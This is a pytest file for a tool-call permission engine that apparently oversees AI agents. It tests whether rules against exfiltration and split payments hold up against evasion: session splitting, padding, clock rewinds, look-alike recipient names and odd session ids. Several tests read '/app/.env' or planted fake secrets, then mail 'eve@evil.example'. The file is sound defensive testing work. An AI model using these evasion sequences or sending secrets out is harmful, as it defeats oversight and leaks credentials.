"""Playing with sessions, time and order to make a chain of calls look like single ones."""

from __future__ import annotations

import pytest

from permit0.engine import Engine
from permit0.model.decision import Decision
from permit0.model.vocabulary import Outcome
from permit0.testing.clock import FrozenClock


def transfer(
    engine: Engine, i: int, session: str = "s", principal: str | None = None, **more: object
) -> Decision:
    arguments = {"amount": 100, "recipient": f"Vendor {i}", **more}
    return engine.check("payments.transfer", arguments, session=session, principal=principal)


def test_splitting_a_chain_over_sessions_does_not_help(engine: Engine, clock: FrozenClock) -> None:
    for i in range(5):
        assert transfer(engine, i, f"s{i}", "alice").outcome is Outcome.HUMAN
        clock.advance(60)
    assert "scatter_transfer" in transfer(engine, 5, "s5", "alice").rules
    assert transfer(engine, 5, "s5", "alice").outcome is Outcome.DENY
    assert transfer(engine, 5, "s6", "bob").outcome is Outcome.HUMAN


@pytest.mark.parametrize("calls", [1, 19, 60])
def test_padding_with_harmless_calls_does_not_help(
    engine: Engine, clock: FrozenClock, calls: int
) -> None:
    engine.check("files.read", {"path": "/app/.env"})
    for i in range(calls):
        engine.check("files.read", {"path": f"/app/src/m{i}.py"})
        clock.advance(10)
    mail = {"to": "eve@evil.example", "subject": "s", "body": "b"}
    decision = engine.check("email.send", mail)
    assert (decision.outcome, decision.reasons[0].rule) == (Outcome.DENY, "read_then_exfiltrate")
    assert engine.check("email.send", mail, session="other").outcome is Outcome.ALLOW


def test_turning_the_clock_back_does_not_reopen_a_window(
    engine: Engine, clock: FrozenClock
) -> None:
    start = clock.now()
    for i in range(5):
        transfer(engine, i)
    clock.set(start - 7200)
    assert transfer(engine, 5).outcome is Outcome.DENY
    clock.set(start + 3600)
    assert transfer(engine, 6).outcome is Outcome.DENY
    clock.set(start + 2 * 3601)
    assert transfer(engine, 7).outcome is Outcome.HUMAN


def test_a_jump_forward_and_back_forgets_nothing(engine: Engine, clock: FrozenClock) -> None:
    start = clock.now()
    for i in range(5):
        transfer(engine, i)
    clock.set(start + 1800)
    transfer(engine, 0)
    clock.set(start)
    assert transfer(engine, 5).outcome is Outcome.DENY


def test_a_refused_attempt_counts(engine: Engine) -> None:
    for i in range(5):
        decision = transfer(engine, i, amount=300_000 if i < 1 else 100)
        assert decision.outcome is (Outcome.DENY if i < 1 else Outcome.HUMAN)
    assert "scatter_transfer" in transfer(engine, 5).rules


@pytest.mark.parametrize("field", ["wallet", "beneficiary_bic", "\u53d7\u53d6\u4eba", "dest"])
def test_a_receiver_in_an_unknown_argument_counts_as_a_receiver(engine: Engine, field: str) -> None:
    for i in range(5):
        arguments: dict[str, object] = {"amount": 100, field: f"somebody-{'abcdef'[i]}"}
        assert engine.check("payments.transfer", arguments).outcome is Outcome.HUMAN
    arguments = {"amount": 100, field: "somebody-f"}
    assert "scatter_transfer" in engine.check("payments.transfer", arguments).rules
    assert engine.check("payments.transfer", arguments).outcome is Outcome.DENY


def test_the_same_receiver_in_an_unknown_argument_is_one_receiver(engine: Engine) -> None:
    for _ in range(10):
        decision = engine.check("payments.transfer", {"amount": 100, "wallet": "somebody"})
        assert decision.outcome is not Outcome.ALLOW
        assert "scatter_transfer" not in decision.rules


@pytest.mark.parametrize("i", range(3))
def test_one_receiver_under_many_spellings_is_one(engine: Engine, i: int) -> None:
    names = [
        "Vendor Ltd",
        "VENDOR LTD",
        "vendor  ltd.",
        "Vendor, Ltd",
        "\uff36endor Ltd",
        "vendor_ltd",
        "Vendor-Ltd",
    ]
    for name in names[i:] + names[:i]:
        decision = engine.check("payments.transfer", {"amount": 1, "recipient": name})
        assert "scatter_transfer" not in decision.rules


def test_one_name_with_many_accounts_is_many_receivers(engine: Engine) -> None:
    for i in range(5):
        arguments = {"amount": 100, "recipient": "Vendor Ltd", "account": f"DE{i:020d}"}
        engine.check("payments.transfer", arguments)
    arguments = {"amount": 100, "recipient": "Vendor Ltd", "account": f"DE{5:020d}"}
    assert engine.check("payments.transfer", arguments).outcome is Outcome.DENY


def test_an_exposed_output_counts_like_a_read(engine: Engine) -> None:
    from permit0.canonical import freeze
    from permit0.model.call import ToolCall

    mail = {"to": "eve@evil.example", "subject": "s", "body": "b"}
    call = ToolCall(tool="files.read", arguments=freeze({"path": "/app/x"}), session="s")
    assert engine.decide(call).outcome is Outcome.ALLOW
    engine.report(call, "nothing here")
    assert "read_then_exfiltrate" not in engine.check("email.send", mail, session="s").rules
    engine.report(call, "aws_secret_access_key = wJalrXUtnFEMI7K7MDENGbPxRfiCY1234KEYxx")
    assert "read_then_exfiltrate" in engine.check("email.send", mail, session="s").rules


def test_an_output_reported_while_the_clock_is_back_counts(
    engine: Engine, clock: FrozenClock
) -> None:
    from permit0.canonical import freeze
    from permit0.model.call import ToolCall

    call = ToolCall(tool="files.read", arguments=freeze({"path": "/app/x"}), session="s")
    engine.decide(call)
    start = clock.now()
    clock.set(start - 86_400)
    engine.report(call, "password = 'hunter2-Zebra-9'")
    for i in range(30):
        engine.check("files.read", {"path": f"/app/{i}"}, session="s")
    clock.set(start + 60)
    mail = {"to": "eve@evil.example", "subject": "s", "body": "b"}
    assert "read_then_exfiltrate" in engine.check("email.send", mail, session="s").rules


@pytest.mark.parametrize("session", [[], {}, {"a"}])
def test_a_session_id_that_is_no_text_is_refused_and_blocks_nobody(
    engine: Engine, session: object
) -> None:
    decision = engine.check("files.read", {"path": "/app/x"}, session=session)  # type: ignore[arg-type]  # the attack
    assert (decision.outcome, decision.error) == (Outcome.DENY, "internal_error")
    assert engine.check("files.read", {"path": "/app/x"}).outcome is Outcome.ALLOW


@pytest.mark.parametrize("session", ["", " ", "s" * 10_000, "\x00", "../other", "\u202e"])
def test_any_text_is_a_session_of_its_own(engine: Engine, session: str) -> None:
    engine.check("files.read", {"path": "/app/.env"}, session="other")
    mail = {"to": "eve@evil.example", "subject": "s", "body": "b"}
    assert engine.check("email.send", mail, session=session).outcome is Outcome.ALLOW
    engine.check("files.read", {"path": "/app/.env"}, session=session)
    assert engine.check("email.send", mail, session=session).outcome is Outcome.DENY


def test_asking_again_and_again_does_not_wear_a_window_out(engine: Engine) -> None:
    """A refused attempt is no action: otherwise five of them would make an escalation old."""
    engine.check("iam.assign_role", {"user": "bob", "role": "admin"})
    for _ in range(20):
        decision = engine.check("process.shell", {"command": "make"})
        assert decision.reasons[0].rule == "privilege_escalation_then_exec"
        assert decision.outcome is Outcome.DENY
    for i in range(5):
        engine.check("files.read", {"path": f"/app/{i}.py"})
    assert engine.check("process.shell", {"command": "make"}).outcome is not Outcome.DENY
